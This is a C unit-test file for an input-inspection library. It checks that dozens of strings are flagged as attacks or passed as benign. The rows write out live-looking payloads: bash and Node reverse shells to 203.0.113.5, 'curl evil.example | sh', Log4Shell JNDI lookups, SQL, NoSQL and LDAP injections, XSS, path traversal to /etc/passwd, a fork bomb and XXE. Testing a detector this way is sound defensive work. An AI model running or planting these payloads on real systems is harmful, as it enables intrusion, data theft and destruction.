/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks that stand within source, logs, statements and lists, which begin before the attack does; beside each kind what an
 * attacker makes of it: the same words without the dress, or a dress around what works in any text.
 */
#include "inspect/inspect.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../lib/scratch.h"

enum expected {
	PASSES, /* it may be told, it is not found */
	ATTACK,
};

static const struct row {
	enum expected expected;
	const char *text;
} rows[] = {
        /* Tests: calls that only tests have, and a string that is closed behind it. */
        {PASSES, "it('keeps text', () => { expect(show('<script>alert(2)</script>')).toBe('&lt;script&gt;'); });"},
        {PASSES, "assertEquals(1, n); assertThrows(Bad.class, () -> open(\"../../etc/passwd\"));"},
        {PASSES, "def test_names(name):\n    with raises(ValueError):\n        save(\"x; rm -rf /\")\n"},
        {ATTACK, "assert(system('id'))"},
        {ATTACK, "open(\"../../etc/passwd\")"},
        {ATTACK, "expect(show('<script src=//evil.example/a.js></script>')).toBe('')"},
        {ATTACK, "it was great; cat /etc/passwd"},
        /* Sessions of an interpreter. */
        {PASSES, ">>> quote(\"b; rm -rf /tmp/x\")\n\"'b; rm -rf /tmp/x'\""},
        {PASSES, ">>> clean(\"<script>alert(1)</script>\")\n'&lt;script&gt;'"},
        {ATTACK, "quote(\"b; rm -rf /tmp/x\")"},
        {ATTACK, ">>> <script src=//evil.example/a.js></script>\nok"},
        /* Patches. */
        {PASSES, "@@ -3,2 +3,2 @@\n-  out.innerHTML = location.hash.slice(1)\n+  out.textContent = location.hash"},
        {PASSES, "diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n-  rm $1; id\n+  rm -- \"$1\"; id\n"},
        {ATTACK, "out.innerHTML = location.hash.slice(1)"},
        {ATTACK, "@@ -3,2 +3,2 @@; cat /etc/passwd"},
        /* Programs of several lines, and what is called by the name that a line gave it. */
        {PASSES, "import { spawn } from 'node:child_process';\nconst list = spawn('ls', ['-l']);\n"
                 "list.stdout.on('data', (data) => {\n  console.log(`${data}`);\n});\n"},
        {PASSES, "const child = spawn('sox', ['-n', out]); child.on('exit', code => console.log(code));"},
        {ATTACK, "require('child_process').exec('ls')"},
        {ATTACK, "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh', []);\n"
                 "const c = net.connect(4444, '203.0.113.5');\nc.pipe(sh.stdin);\n"},
        {ATTACK, "const x = require('child_process').execSync('cat /etc/passwd'); x.toString()"},
        /* Lists of short strings, patterns, comments of code. */
        {PASSES, "\"denied\": [\"<script\", \"onload=\", \"' OR 1=1\", \"; DROP TABLE x\"]"},
        {PASSES, "location ~* \"(exec\\(|/bin/sh|/etc/passwd|<object)\" { return 404; }"},
        {PASSES, "const SQL = /or\\s+1/i; // finds ' or 1=1"},
        {ATTACK, "x\", \"; DROP TABLE x\", \"y"},
        {ATTACK, "(x|/bin/sh|/etc/passwd)"},
        {ATTACK, "5 // ' or 1=1"},
        /* What came of it, behind an arrow. */
        {PASSES, "refactor: os.popen('git rev-parse HEAD') -> subprocess.check_output"},
        {PASSES, "import pickle; d = pickle.loads(open('m.pkl','rb').read()) -> AttributeError: no such class"},
        {ATTACK, "import pickle; d = pickle.loads(open('m.pkl','rb').read())"},
        {ATTACK, "os.popen('git rev-parse HEAD')"},
        /* Whole statements of SQL within a text of whatever language. */
        {PASSES, "Warum liefert die Abfrage SELECT * FROM kunden WHERE name = '' OR 2=2 alle Zeilen?"},
        {PASSES, "Ik begrijp niet waarom SELECT a FROM b WHERE c = 'x' OR 1=1; alles geeft"},
        {PASSES, "nit: \"DELETE FROM carts WHERE 1=1\" can be TRUNCATE"},
        {ATTACK, "Anna'; SELECT * FROM kunden WHERE name = '' OR 2=2 -- "},
        {ATTACK, "x' UNION SELECT name, pass FROM kunden WHERE '1'='1"},
        {ATTACK, "Warum' OR 2=2 -- "},
        {ATTACK, "1; DELETE FROM carts WHERE 1=1 -- "},
        /* Whole filters and calls. */
        {PASSES, "search -x -b \"dc=example,dc=com\" \"(|(uid=anna)(mail=anna@example.com))\" gives too many"},
        {PASSES, "mongosh --eval 'db.orders.countDocuments({state: {$in: [\"new\",\"paid\"]}})'"},
        {ATTACK, "anna)(|(uid=*)(mail=*))"},
        {ATTACK, "{\"user\": \"anna\", \"pass\": {\"$ne\": \"\"}}"},
        {ATTACK, "db.orders.drop(); db.users.find({pass: {$ne: 1}})"},
        /* Scripts behind a label, conditions from the first byte, files of commands. */
        {PASSES, "Crontab entry for a nightly copy: 0 4 * * * pg_dump shop | gzip > /backup/shop-$(date +\\%F).gz"},
        {PASSES, "Windows script: for %%f in (*.log) do echo %%f & copy \"%%f\" E:\\keep"},
        {PASSES, "script:\n  - test -z \"$CI_ID\" || echo \"MR $CI_ID\"\n  - make test"},
        {PASSES, "[[ $USER = root ]] || { echo \"run as root\"; exit 1; }"},
        {ATTACK, "script: x; whoami"},
        {ATTACK, "Crontab: $(curl http://evil.example/a | sh)"},
        {ATTACK, "x ]] || { whoami; }"},
        /* Lines of logs. */
        {PASSES, "<134>1 2024-05-01T10:00:00Z waf02 - - - - blocked uri=\"/a?b=<script>alert(3)</script>\" rule=\"x\""},
        {PASSES, "May 12 03:44:10 pot cowrie[772]: CMD: cd /tmp || cd /run; wget http://203.0.113.12/b; sh b"},
        {PASSES, "[2024-03-11 08:14:02] app.WARNING: refused {\"value\":\"<script>alert(1)</script>\",\"user\":15}"},
        {PASSES, "2024-05-01 10:00:01 192.0.2.7 ERROR [41] login failed for ' OR 1=1 -- "},
        {ATTACK, "2024-05-01 10:00:01' OR 1=1 -- "},
        {ATTACK, "2024-05-01 10:00:01 192.0.2.7 ERROR [41] ${jndi:ldap://evil.example/a}"},
        {ATTACK, "2024-05-01 10:00:01 192.0.2.7 ERROR [41] <script src=//evil.example/a.js></script>"},
        {ATTACK, "a=1; b=2; c=3; d=' OR 1=1 -- "},
        /* Records of logs, and members that only look like it. */
        {PASSES, "{\"level\":\"warn\",\"ts\":1717230000,\"msg\":\"refused\",\"file\":\"../../etc/cron.d/y\"}"},
        {PASSES, "{\"csp-report\":{\"blocked-uri\":\"inline\",\"violated-directive\":\"script-src-attr\","
                 "\"script-sample\":\"onerror=alert(1)\"}}"},
        {ATTACK, "{\"name\":\"x\",\"msg\":\"hi\",\"file\":\"../../etc/cron.d/y\"}"},
        {ATTACK, "{\"level\":\"warn\",\"ts\":1717230000,\"msg\":\"${jndi:ldap://evil.example/a}\"}"},
        /* All of a short value: lists of words, markup's text, entities, bounds of a search, neighbours of a source. */
        {PASSES, "Fish & chips; mushy peas; id required"},
        {PASSES, "<ul><li>Bread & butter</li><li>Salt; pepper</li></ul>"},
        {PASSES, "Sending &lt;script&gt;alert(1)&lt;/script&gt; shows it as text, is that right?"},
        {PASSES, "{\"age\":{\"$gte\":18,\"$lt\":65}}"},
        {PASSES, "{\"createdAt\":{\"$gte\":\"2024-01-01\",\"$lt\":\"2024-02-01\"}}"},
        {PASSES, "../components/Button"},
        {PASSES, "2 or more = discount"},
        {ATTACK, "fish; id"},
        {ATTACK, "fish & chips; id; whoami; cat /etc/passwd"},
        {ATTACK, "<p>x</p>; id; <p>"},
        {PASSES, "{\"price\":{\"$lte\":100}}"},
        {ATTACK, "{\"pin\":{\"$lt\":9999}}"},
        {ATTACK, "{\"age\":{\"$gt\":0}}"},
        {ATTACK, "{\"pass\":{\"$gt\":\"\"}}"},
        {ATTACK, "{\"age\":{\"$gte\":18,\"$ne\":65}}"},
        {ATTACK, "../config/../../etc/passwd"},
        {ATTACK, "2 or name = name"},
        /* Files: scripts from their first line, manifests of packages, the rest of a document as it was printed. */
        {PASSES, "#!/bin/bash\nset -e\nrun() {\n  docker build -t x ci | tee log\n}\nrun a | tee b\nrun c\n"},
        {PASSES, "#!/bin/sh\n. $(dirname $0)/../lib/all.sh\nperf record -o \"$DATA\" `which cargo`\n"},
        {PASSES, "BEGIN; UPDATE accounts SET a = a - 1 WHERE id = 1; COMMIT;"},
        {PASSES, "{\"name\":\"x\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"t\":\"tap a.js; rm -rf "
                 "out\"},"
                 "\"dependencies\":{}}"},
        {PASSES, "  },\n  \"main\": \"which.js\",\n  \"bin\": {\n    \"which\": \"./bin/which\"\n  },"},
        {PASSES, "<!DOCTYPE fontconfig SYSTEM \"urn:fontconfig:fonts.dtd\"><fontconfig/>"},
        {ATTACK, "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"},
        {ATTACK, "f(){ f|f& };f"},
        {ATTACK, "1; UPDATE accounts SET a = 1; COMMIT;"},
        {ATTACK, "}, \"$where\": \"sleep(9)\", \"x\": {"},
        {ATTACK, "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"},
        /* Items and rows of a document, messages of programs. */
        {PASSES, "Test cases:\n- empty name\n- name with <script>alert(1)</script>\n- name with '; DROP TABLE users; "
                 "--"},
        {PASSES, "| Payload | Result |\n|---|---|\n| ' OR 1=1 -- | blocked |"},
        {PASSES, "fatal: ambiguous argument '$(whoami)': unknown revision"},
        {PASSES, " * @param {string} q  e.g. \"1 OR 1=1\" is escaped"},
        {ATTACK, "- name'; DROP TABLE users; --"},
        {ATTACK, "milk\n- eggs\n- <script src=//evil.example/a.js></script>"},
        {ATTACK, "| ' OR 1=1 -- |"},
        {ATTACK, "file: $(whoami)"},
        {ATTACK, "Dateiname: ../../etc/passwd"},
        /* Questions, echoes, both spellings, what went wrong. */
        {PASSES, "Hur stoppar jag <script>alert(1)</script> i kommentarer?"},
        {PASSES, "iframe isn't shown: <iframe src=\"https://www.example.com\" onload=\"go()\"></iframe> and nothing "
                 "else"},
        {PASSES, "<button onclick=\"doIt()\">Go</button> throws an error that says doIt is not defined here"},
        {PASSES, "The string &lt;script&gt; is shown as <script>alert(1)</script> in the preview"},
        {PASSES, "java.nio.file.NoSuchFileException: ../../../../etc/passwd"},
        {ATTACK, "Hur stoppar jag <script src=//evil.example/a.js></script> i kommentarer?"},
        {ATTACK, "Does it work on version 3? <script>alert(1)</script>"},
        {ATTACK, "Who knows why ' or sleep(9)='1 lets you into the old shop without a password?"},
        {ATTACK, "Nice lamp. <button onclick=\"alert(1)\">Show</button>"},
        {ATTACK, "../../../../etc/passwd"},
        /* Figures of a name within a template's include. */
        {PASSES, "{{#include ../listings/ch15-pointers/listing-15-16/output.txt}}"},
        {ATTACK, "{{#with 15-16}}{{this}}{{/with}} {{15*16}}"},
};

static size_t found_in(const char *text, bool is_strict)
{
	const struct gb_inspect_options options = {.is_strict = is_strict};
	struct gb_inspect_report report;

	gb_inspect_value(&options, gb_span_cstr(text), scratch, &report);
	return report.finding_count;
}

static void test_rows(void **state)
{
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if ((found_in(rows[i].text, false) != 0) == (rows[i].expected == ATTACK))
			continue;
		bad++;
		print_error("not as expected: %s\n", rows[i].text);
	}
	assert_int_equal(bad, 0);
}

/* A record that a client sent in a request's body is no log: who sends it chose its members. */
static void test_body(void **state)
{
	const char *event =
	        "{\"httpMethod\":\"POST\",\"path\":\"/\",\"headers\":{},\"requestContext\":{\"stage\":\"p\"},"
	        "\"body\":\"{\\\"level\\\":\\\"warn\\\",\\\"ts\\\":17,\\\"msg\\\":\\\"x\\\","
	        "\\\"file\\\":\\\"../../etc/cron.d/y\\\"}\"}";
	struct gb_inspect_report report;

	(void)state;
	gb_inspect_event(NULL, gb_span_cstr(event), scratch, &report);
	assert_int_equal(report.finding_count, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_rows),
	        cmocka_unit_test(test_body),
	};

	return run_tests_with_scratch(tests);
}
